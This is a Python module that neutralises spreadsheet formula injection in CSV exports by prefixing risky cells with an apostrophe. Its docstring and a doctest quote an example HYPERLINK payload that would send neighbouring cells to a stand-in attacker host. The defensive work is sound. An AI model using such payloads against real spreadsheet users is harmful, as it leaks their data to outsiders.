"""CSV files that spreadsheet software opens safely.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab, carriage return
or line feed, which some software skips before reading the formula) is run as
a formula by Excel, LibreOffice and Google Sheets: a member who names herself
`=HYPERLINK("http://evil.example/?"&A2;"x")` would send the neighbouring cells
away when a manager opens the export. Every CSV the project writes goes
through `csv_writer`, which puts an apostrophe before such text: the
spreadsheet shows the text as typed, and runs nothing (the OWASP advice).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

from meute.engine.controls import multi_line

__all__ = ["FORMULA_STARTS", "SafeWriter", "csv_writer", "safe_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value, with an apostrophe before text a spreadsheet would read as a formula.

    Numbers are left alone: only text is ever read as a formula. Control
    characters other than line breaks and tabs become spaces, line breaks ``\n``
    (the csv module quotes such a cell).

    >>> safe_cell('=HYPERLINK("http://evil.example")')
    '\\'=HYPERLINK("http://evil.example")'
    >>> safe_cell("+33 2 47 00 00 00"), safe_cell("Claire Moreau"), safe_cell(-3)
    ("'+33 2 47 00 00 00", 'Claire Moreau', -3)
    """
    if not isinstance(value, str):
        return value
    value = multi_line(value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """A `csv.writer` whose every text cell goes through `safe_cell`."""

    def __init__(self, out: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **kwargs: Any) -> SafeWriter:
    """Like `csv.writer(out, **kwargs)`, with formulas neutralised (see the module docstring)."""
    return SafeWriter(out, **kwargs)
